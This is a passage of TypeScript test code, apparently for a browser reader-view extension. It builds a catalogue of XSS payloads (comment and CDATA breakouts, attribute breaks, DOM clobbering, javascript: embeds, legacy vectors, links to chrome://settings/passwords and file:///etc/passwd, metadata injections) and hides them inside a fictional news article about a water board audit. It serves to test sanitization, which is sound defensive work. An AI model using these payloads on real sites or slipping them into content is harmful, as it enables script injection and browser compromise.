  add('comment', 'comment-abrupt-close-dash', (id) => `<!---><img src="x" onerror="${J(id)}">-->`);
  add('comment', 'comment-bang-close', (id) => `<!-- --!><img src="x" onerror="${J(id)}">-->`);
  add('comment', 'comment-in-attribute', (id) => `<p title="--><img src=x onerror=${J(id)}>">Board members</p>`, {
    note: 'inert in HTML; live if serialized as XML or by a regex filter',
  });
  add('comment', 'comment-cdata-html', (id) => `<![CDATA[><img src="x" onerror="${J(id)}">]]>`, {
    note: 'outside foreign content CDATA is a bogus comment that ends at the first ">"',
  });
  add(
    'comment',
    'comment-cdata-svg',
    (id) => `<svg width="1" height="1"><![CDATA[><img src="x" onerror="${J(id)}">]]></svg>`,
  );
  add('comment', 'comment-processing-instruction', (id) => `<? x="><img src=x onerror=${J(id)}>">`);
  add('comment', 'comment-ie-conditional', (id) => `<!--[if gte IE 4]><script>${J(id)}</script><![endif]-->`);

  // ───────────────────────── attribute breaking
  add('attribute-break', 'attr-break-double-quote', (id) => `"><script>${J(id)}</script>`, { outsideCopy: true });
  add('attribute-break', 'attr-break-single-quote', (id) => `'><img src=x onerror=${J(id)}>`);
  add(
    'attribute-break',
    'attr-break-backtick-template',
    (id) => `<img src=${BT}x${BT} onerror=${BT}\${${J(id)}}${BT}>`,
    {
      note: 'the handler is a JS template literal whose ${} runs',
    },
  );
  add(
    'attribute-break',
    'attr-break-encoded-alt',
    (id) => `<img src="${GIF}" alt="&quot;&gt;&lt;img src=x onerror=${J(id)}&gt;">`,
    { note: 'inert unless the reader copies alt into HTML by string concatenation' },
  );
  add(
    'attribute-break',
    'attr-break-encoded-title',
    (id) =>
      `<a href="https://example.org/water" title="&quot;&gt;&lt;script&gt;${J(id)}&lt;/script&gt;">water quality data</a>`,
  );

  // ───────────────────────── DOM clobbering
  add('clobber', 'clobber-document-getelementbyid', () => `<img name="getElementById" src="${GIF}" alt="">`, {
    kind: 'clobber',
    marker: 'name="getElementById"',
    note: 'document.getElementById becomes this <img> on the page (and in any clone of it)',
  });
  add(
    'clobber',
    'clobber-form-attributes',
    () => `<form id="qari-clobber-form"><input name="attributes"><input name="nodeName"></form>`,
    { kind: 'clobber', marker: 'qari-clobber-form', note: 'sanitizers that walk form.attributes' },
  );
  add(
    'clobber',
    'clobber-form-removeattribute',
    () => `<form id="qari-clobber-remove"><input name="removeAttribute"></form>`,
    {
      kind: 'clobber',
      marker: 'qari-clobber-remove',
      breaksExtraction: true,
      note:
        'Readability 0.6 in Chromium throws "e.removeAttribute is not a function" (_cleanStyles) on this form, so ' +
        'extraction of the whole page fails: kept out of xssArticlePage, test it on a page of its own',
    },
  );
  add(
    'clobber',
    'clobber-window-config',
    (id) => `<a id="qariConfig"></a><a id="qariConfig" name="scriptUrl" href="data:text/javascript,${J(id)}"></a>`,
    { kind: 'clobber', outsideCopy: true, note: 'window.qariConfig.scriptUrl is this href' },
  );
  add(
    'clobber',
    'clobber-browser-runtime',
    () => `<form id="browser"><input name="runtime" id="qari-clobbered-runtime"></form>`,
    {
      kind: 'clobber',
      marker: 'qari-clobbered-runtime',
      note: 'window.browser.runtime.id is truthy: webextension-polyfill would take this form for the real API',
    },
  );

  // ───────────────────────── object / embed / applet
  add('embed', 'embed-object-javascript', (id) => `<object data="javascript:${J(id)}" width="1" height="1"></object>`, {
    outsideCopy: true,
  });
  add('embed', 'embed-embed-javascript', (id) => `<embed src="javascript:${J(id)}" width="1" height="1">`);
  add(
    'embed',
    'embed-object-svg',
    (id) => `<object type="image/svg+xml" data="data:image/svg+xml,${svgDoc(id)}" width="1" height="1"></object>`,
  );
  add('embed', 'embed-object-onerror', (id) => `<object data="x" onerror="${J(id)}" width="1" height="1"></object>`);
  add(
    'embed',
    'embed-object-video-allowlist',
    (id) =>
      `<object data="data:text/html,<script>${J(id)}</script>" title="https://www.youtube.com/embed/qari" ` +
      `width="560" height="315"><param name="movie" value="https://www.youtube.com/v/qari-water-board"></object>`,
    {
      note:
        'Readability keeps embeds with a video-site attribute (its innerHTML check for <object> compares ' +
        'tagName with lowercase "object", so never matches in an HTML document)',
    },
  );
  add(
    'embed',
    'embed-embed-video-allowlist',
    (id) =>
      `<embed src="data:text/html,<script>${J(id)}</script>" title="//www.dailymotion.com/embed/video/qari" ` +
      `width="560" height="315">`,
  );
  add(
    'embed',
    'embed-object-param',
    (id) =>
      `<object width="1" height="1"><param name="src" value="javascript:${J(id)}">` +
      `<param name="url" value="javascript:${J(id)}"></object>`,
  );
  add('embed', 'embed-applet', (id) => `<applet code="Exploit.class" codebase="javascript:${J(id)}"></applet>`, {
    note: 'Java applets are long gone; <applet> is an unknown element now',
  });

  // ───────────────────────── legacy vectors
  add(
    'legacy',
    'legacy-isindex',
    (id) => `<isindex type="image" src="x" onerror="${J(id)}" action="javascript:${J(id)}">`,
    {
      outsideCopy: true,
    },
  );
  add(
    'legacy',
    'legacy-table-background',
    (id) =>
      `<table><tr><td background="javascript:${J(id)}">Eastgate</td><td>2016 firewall rule still active</td></tr></table>`,
  );
  add('legacy', 'legacy-img-srcset', (id) => `<img srcset="javascript:${J(id)}" alt="Valve house">`);
  add('legacy', 'legacy-img-src-javascript', (id) => `<img src="javascript:${J(id)}" alt="Pump hall">`);
  add(
    'legacy',
    'legacy-img-dynsrc-lowsrc',
    (id) => `<img dynsrc="javascript:${J(id)}" lowsrc="javascript:${J(id)}" alt="">`,
  );
  add('legacy', 'legacy-bgsound', (id) => `<bgsound src="javascript:${J(id)}">`);
  add('legacy', 'legacy-input-image-javascript', (id) => `<input type="image" src="javascript:${J(id)}" alt="Search">`);

  // ───────────────────────── privileged and tracking targets
  add(
    'privileged',
    'priv-iframe-extension-page',
    () => `<iframe src="${k.ext}/options.html" width="320" height="180"></iframe>`,
    {
      kind: 'navigation',
      marker: `${k.ext}/options.html`,
      note: 'inside the reader this is same-origin with the extension: clickjacking of its own pages',
    },
  );
  add(
    'privileged',
    'priv-a-extension-page',
    () => `<a href="${k.ext}/reader.html?url=https%3A%2F%2Fevil.example%2F">reader</a>`,
    {
      kind: 'navigation',
      trigger: 'click',
      marker: `${k.ext}/reader.html?url=https%3A%2F%2Fevil.example`,
    },
  );
  add(
    'privileged',
    'priv-img-extension-probe',
    (id) => `<img src="${k.ext}/manifest.json" onerror="${J(id)}" onload="${J(id)}" alt="">`,
    { outsideCopy: true, note: 'also probes for the extension (fingerprinting) when it does not run script' },
  );
  add('privileged', 'priv-a-chrome-settings', () => `<a href="chrome://settings/passwords">saved passwords</a>`, {
    kind: 'navigation',
    trigger: 'click',
    marker: 'chrome://settings/passwords',
  });
  add('privileged', 'priv-iframe-chrome', () => `<iframe src="chrome://version/" width="1" height="1"></iframe>`, {
    kind: 'navigation',
    marker: 'chrome://version/',
  });
  add('privileged', 'priv-a-file', () => `<a href="file:///etc/passwd">raw data</a>`, {
    kind: 'navigation',
    trigger: 'click',
    marker: 'file:///etc/passwd',
  });
  add(
    'privileged',
    'priv-a-ping',
    (id) => `<a href="https://example.org/water-board" ping="${k.urlAttr(id)}">board website</a>`,
    { kind: 'navigation', trigger: 'click', note: 'hyperlink auditing: a POST to the beacon on click' },
  );
  add(
    'privileged',
    'priv-a-opener',
    (id) => `<a href="${k.urlAttr(id)}" target="_blank" rel="opener">open the map in a new tab</a>`,
    { kind: 'navigation', trigger: 'click', note: 'reverse tabnabbing: the new tab gets window.opener' },
  );

  // ───────────────────────── article metadata (sinks other than the body: siteName, byline, excerpt, …)
  // These only ever go in <head>. Readability reads them as text; they are live only if a surface renders that
  // text as HTML (innerHTML, string-built attributes).
  add(
    'metadata',
    'meta-site-name',
    (id) => `<meta property="og:site_name" content="Riverside Ledger<img src=x onerror=${J(id)}>">`,
    { place: 'head' },
  );
  add(
    'metadata',
    'meta-description-double-encoded',
    (id) =>
      `<meta property="og:description" content="An independent audit found outdated controls at the Millbrook ` +
      `Water Board.&amp;lt;img src=x onerror=${J(id)}&amp;gt;">`,
    { place: 'head', note: 'Readability unescapes &lt; &gt; in metadata once more, so the excerpt holds real "<img"' },
  );
  add('metadata', 'meta-author', (id) => `<meta name="author" content="Dana Whitfield<svg onload=${J(id)}>">`, {
    place: 'head',
  });
  add(
    'metadata',
    'meta-jsonld-date',
    (id) =>
      `<script type="application/ld+json">${JSON.stringify({
        '@context': 'https://schema.org',
        '@type': 'NewsArticle',
        headline: 'Security review of the city water board',
        datePublished: `2024-03-12T08:30:00Z"><img src=x onerror=${J(id)}>`,
      })}</script>`,
    { place: 'head', note: 'publishedTime; built to break out of <time datetime="…"> string templates' },
  );
  add(
    'metadata',
    'meta-og-image-attr-break',
    (id) => `<meta property="og:image" content="https://example.org/eastgate.jpg&quot; onerror=&quot;${J(id)}">`,
    { place: 'head', note: 'leadImage, if it is pasted into <img src="…"> by string' },
  );

  return out;
}

function payloadOf(d: Def, id = d.id): XssPayload {
  const marker = id === d.id && d.marker ? d.marker : `?id=${id}`;
  const p: XssPayload = { id, category: d.category, html: d.make(id), kind: d.kind, trigger: d.trigger, marker };
  if (d.note) p.note = d.note;
  return p;
}

/** The corpus: one entry per vector. */
export function xssPayloads(beacon: string, options: XssOptions = {}): XssPayload[] {
  return defs(kit(beacon, options.extensionOrigin ?? DEFAULT_EXTENSION_ORIGIN)).map((d) => payloadOf(d));
}

const BLOCK_TAG =
  /<\/?(address|article|aside|blockquote|center|details|dialog|dir|div|dl|fieldset|figcaption|figure|footer|form|h[1-6]|header|hgroup|hr|main|menu|nav|ol|p|pre|listing|section|summary|table|ul|xmp|plaintext|li|dd|dt|body|frameset|math|noscript)\b/i;

function placeOf(d: Def): Place {
  if (d.place) return d.place;
  return BLOCK_TAG.test(d.make(d.id)) ? 'block' : 'inline';
}

/** Every payload that xssArticlePage puts in the page, with where it is. Ids are unique. */
export function xssArticlePagePayloads(beacon: string, options: XssOptions = {}): PlacedXssPayload[] {
  const all = defs(kit(beacon, options.extensionOrigin ?? DEFAULT_EXTENSION_ORIGIN)).filter((d) => !d.breaksExtraction);
  const out: PlacedXssPayload[] = [];
  for (const d of all) if (d.headCopy) out.push({ ...payloadOf(d, `${d.id}--head`), placement: 'head' });
  for (const d of all) if (placeOf(d) === 'head') out.push({ ...payloadOf(d), placement: 'head' });
  for (const d of all) if (d.outsideCopy) out.push({ ...payloadOf(d, `${d.id}--outside`), placement: 'outside' });
  for (const d of all) if (placeOf(d) !== 'head') out.push({ ...payloadOf(d), placement: 'article' });
  return out;
}

// ─────────────────────────────────────────────────────────────── the article page

const PARAGRAPHS: string[] = [
  'An independent security review commissioned by the Millbrook Water Board has found that the utility’s treatment ' +
    'plants, pumping stations and billing systems were protected by controls that had not been updated in more than ' +
    'a decade, according to a copy of the report obtained by the Ledger.',
  'The 84-page review, carried out over eleven weeks last autumn by the consultancy Harwell &amp; Price, examined how ' +
    'the board manages remote access to the equipment that doses chlorine, monitors reservoir levels and opens the ' +
    'valves that feed roughly 212,000 homes across the northern half of the county.',
  'Auditors wrote that they were able to reach the control network of the Eastgate treatment plant from an ordinary ' +
    'office laptop, because a firewall rule added during a 2016 upgrade had never been removed. The rule, the report ' +
    'says, was meant to last for a single weekend while a contractor replaced a failing server.',
  '“Nothing we found suggests that anyone has abused these weaknesses,” the report’s authors wrote in their summary, ' +
    '“but the absence of evidence is partly a consequence of the absence of logging.” Several of the systems they ' +
    'inspected kept records for only seven days, and some kept none at all.',
  'Board chair Rosalind Achebe said on Tuesday that the findings were “uncomfortable but necessary reading” and that ' +
    'most of the urgent recommendations had already been carried out. She told the board’s monthly meeting that the ' +
    'Eastgate firewall rule was removed within hours of the auditors raising it in November.',
  'The review also criticised the way passwords were shared among staff. At two pumping stations, the same ' +
    'administrator account was used by every operator on every shift, and its password had been written on a ' +
    'laminated card kept beside the terminal. The card, according to the report, appeared in a photograph printed in ' +
    'a staff newsletter in 2019.',
  'Vendors were another concern. The board relies on four outside companies to maintain its equipment, and each of ' +
    'them was given a permanent remote connection so that engineers could diagnose faults without driving to the ' +
    'site. The auditors recommended that those connections be switched off by default and opened only when a ' +
    'specific job is booked.',
  'Residents who spoke to the Ledger were divided over how worried they should be. Marcus Feld, who lives a few ' +
    'hundred metres from the Eastgate plant, said he had assumed that a water system would be “locked down like a ' +
    'bank,” and that he was surprised to learn how much depended on a handful of overworked staff.',
  'Others were more sanguine. Priya Raman, a retired civil engineer who sits on the board’s public advisory panel, ' +
    'pointed out that the chemical dosing equipment has physical limits built into it, so that even an operator with ' +
    'full access cannot push chlorine levels beyond a safe range without someone replacing parts by hand.',
  'The report nevertheless warns against relying on those limits alone. It notes that the alarms which alert staff ' +
    'to unusual readings are themselves controlled from the same network, and that an intruder who could silence ' +
    'them might be able to cause disruption that would go unnoticed for hours.',
  'Money is likely to be the sticking point. The consultants estimate that carrying out every recommendation would ' +
    'cost between $3.1 million and $4.4 million over three years, a sum that would have to come either from the ' +
    'board’s reserves or from an increase in water rates that would need the approval of the city council.',
  'Councillor Tomás Herrera, who chairs the council’s infrastructure committee, said he would ask for a public ' +
    'briefing before the budget is set in March. “People are entitled to know that the water coming out of their ' +
    'taps is looked after properly,” he said, “and they are entitled to know what that costs.”',
  'The board has published a summary of the findings on its website and says it will release a redacted version of ' +
    'the full report once the remaining fixes are in place, which it expects to happen by the end of the summer. ' +
    'Sections describing specific network addresses and equipment models will be withheld.',
  'State regulators, who were sent the report in December, said in a statement that they were “reviewing the ' +
    'findings with the board” and had no immediate plans to take enforcement action. The state has proposed rules ' +
    'that would require every utility serving more than 50,000 people to commission a similar review every three ' +
    'years.',
];

const HEADINGS: Record<number, string> = {
  2: 'What the auditors found',
  5: 'A password on a laminated card',
  10: 'Who pays',
};

const RECOMMENDATIONS: string[] = [
  'Remove every temporary firewall rule and review the remaining ones each quarter.',
  'Give each operator a personal account, and retire the shared administrator login.',
  'Keep security logs for at least a year, on a system the control network cannot modify.',
  'Switch vendor remote access off by default and open it per job, with a named engineer.',
  'Separate the alarm system from the network that controls the dosing equipment.',
  'Rehearse a response to a cyber incident with the fire service and the state regulator.',
];

const FINDINGS: Array<[string, string, string]> = [
  ['Eastgate plant', 'Critical', 'Control network reachable from office laptops through a 2016 firewall rule.'],
  ['North and Mill Lane pumping stations', 'High', 'One shared administrator password, written beside the terminal.'],
  ['Vendor access', 'High', 'Four permanent remote connections, none of them logged.'],
  ['Billing system', 'Medium', 'Customer records kept on a server that no longer receives updates.'],
  ['Alarms', 'Medium', 'Alarm silencing possible from the same network as the dosing controls.'],
];

/** Puts `extra` after the first sentence of `text`. */
function afterFirstSentence(text: string, extra: string): string {
  const i = text.search(/[.”]\s/);
  if (i < 0) return `${text} ${extra}`;
  return `${text.slice(0, i + 1)} ${extra}${text.slice(i + 1)}`;
}

/**
 * A realistic news article with the corpus inside its body, where Readability is most likely to keep it:
 * inline payloads go inside paragraphs, list items, table cells, blockquotes and figure captions; block payloads go
 * between paragraphs. One payload per category is copied (id + `--head`) into <head> when it is head-legal, and
 * one (id + `--outside`) into the page chrome around the article. Metadata payloads are in <head>.
 * `<plaintext>` ends the document, so the article is the last thing in the page.
 */
export function xssArticlePage(beacon: string, options: XssOptions = {}): string {
  const placed = xssArticlePagePayloads(beacon, options);
  const head = placed.filter((p) => p.placement === 'head');
  const outside = placed.filter((p) => p.placement === 'outside');
  const article = placed.filter((p) => p.placement === 'article');
  const k = kit(beacon, options.extensionOrigin ?? DEFAULT_EXTENSION_ORIGIN);
  const byId = new Map(defs(k).map((d) => [d.id, d]));
  const placeOfPayload = (p: XssPayload): Place => {
    const d = byId.get(p.id);
    return d ? placeOf(d) : 'block';
  };
  const inline = article.filter((p) => placeOfPayload(p) === 'inline');
  const block = article.filter((p) => placeOfPayload(p) === 'block');
  const end = article.filter((p) => placeOfPayload(p) === 'end');
  const last = article.filter((p) => placeOfPayload(p) === 'last');

  // Inline payloads are dealt round-robin over these containers.
  const inP: string[][] = PARAGRAPHS.map(() => []);
  const inLi: string[][] = RECOMMENDATIONS.map(() => []);
  const inTd: string[][] = FINDINGS.map(() => []);
  const inQuote: string[][] = [[], []];
  const inCaption: string[][] = [[], []];
  const buckets: string[][][] = [inP, inLi, inTd, inQuote, inCaption];
  const counters = buckets.map(() => 0);
  inline.forEach((p, i) => {
    const b = i % buckets.length;
    const bucket = buckets[b]!;
    const n = counters[b]!;
    counters[b] = n + 1;
    bucket[n % bucket.length]!.push(p.html);
  });
  // Block payloads are dealt over the gaps after each paragraph.
  const gaps: string[][] = PARAGRAPHS.map(() => []);
  block.forEach((p, i) => gaps[i % gaps.length]!.push(p.html));

  const para = (i: number): string => {
    const extra = inP[i]!.join(' ');
    const text = PARAGRAPHS[i]!;
    return `<p>${extra ? afterFirstSentence(text, extra) : text}</p>`;
  };
  const list =
    `<h2>The main recommendations</h2>\n<ul>\n` +
    RECOMMENDATIONS.map((r, i) => `<li>${afterFirstSentence(r, inLi[i]!.join(' '))}</li>`).join('\n') +
    `\n</ul>`;
  const table =
    `<table>\n<caption>Findings by severity</caption>\n<thead><tr><th>System</th><th>Severity</th><th>Finding</th>` +
    `</tr></thead>\n<tbody>\n` +
    FINDINGS.map(([s, sev, f], i) => `<tr><td>${s}</td><td>${sev}</td><td>${f} ${inTd[i]!.join(' ')}</td></tr>`).join(
      '\n',
    ) +
    `\n</tbody>\n</table>`;
  const quote = (i: number, text: string, who: string): string =>
    `<blockquote><p>${text} ${inQuote[i]!.join(' ')}</p><p>— ${who}</p></blockquote>`;
  const figure = (i: number, alt: string, caption: string): string =>
    `<figure><img src="${GIF}" alt="${alt}" width="640" height="360">` +
    `<figcaption>${caption} ${inCaption[i]!.join(' ')}</figcaption></figure>`;

  const body: string[] = [];
  PARAGRAPHS.forEach((_, i) => {
    const h = HEADINGS[i];
    if (h) body.push(`<h2>${h}</h2>`);
    body.push(para(i));
    if (i === 1)
      body.push(
        figure(0, 'The Eastgate treatment plant', 'The Eastgate treatment plant, which serves about 90,000 homes.'),
      );
    if (i === 3)
      body.push(
        quote(
          0,
          'A control system is only as safe as the least careful person who can reach it, and for years that has ' +
            'included people who had no reason to be there at all.',
          'from the executive summary of the Harwell &amp; Price report',
        ),
      );
    if (i === 6) body.push(list);
    if (i === 9) body.push(table);
    if (i === 11)
      body.push(
        quote(
          1,
          'We would rather spend the money now, openly, than explain to residents later why we did not.',
          'Rosalind Achebe, chair of the Millbrook Water Board',
        ),
      );
    if (i === 12)
      body.push(figure(1, 'Pumping station control room', 'The control room at the Mill Lane pumping station.'));
    body.push(...gaps[i]!);
  });

  const headCopies = head.filter((p) => p.id.endsWith('--head'));
  const metadata = head.filter((p) => !p.id.endsWith('--head'));
  const outsideHtml = outside.map((p) => `<li>${p.html}</li>`).join('\n');

  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Security review of the city water board | Riverside Ledger</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta property="og:title" content="Security review of the city water board">
<meta property="og:type" content="article">
${metadata.map((p) => p.html).join('\n')}
<style>
body { font: 18px/1.5 Georgia, serif; margin: 0 auto; max-width: 46rem; padding: 1rem; color: #222; }
.site-header, .sidebar { font: 14px/1.4 system-ui, sans-serif; border-bottom: 1px solid #ddd; margin-bottom: 1rem; }
</style>
${headCopies.map((p) => p.html).join('\n')}
</head>
<body>
<header class="site-header">
<a href="/">Riverside Ledger</a>
<nav class="menu"><a href="/news">News</a> · <a href="/city">City</a> · <a href="/opinion">Opinion</a> · <a href="/subscribe">Subscribe</a></nav>
</header>
<aside class="sidebar related">
<h3>Most read</h3>
<ul>
<li><a href="/city/bus-lanes">Bus lanes on Harbour Road to be made permanent</a></li>
<li><a href="/city/library">Central library reopens after two-year refit</a></li>
${outsideHtml}
</ul>
</aside>
<main>
<article>
<h1>Security review of the city water board</h1>
<p class="byline">By <span itemprop="name">Dana Whitfield</span>, City Hall reporter · <time datetime="2024-03-12">12 March 2024</time></p>
<div class="article-body">
${body.join('\n')}
<p>Have a tip about the water board? Contact the newsroom at tips@riversideledger.example.</p>
${end.map((p) => p.html).join('\n')}
${last.length ? last.map((p) => p.html).join('\n') : '</div>\n</article>\n</main>\n</body>\n</html>\n'}`;
}
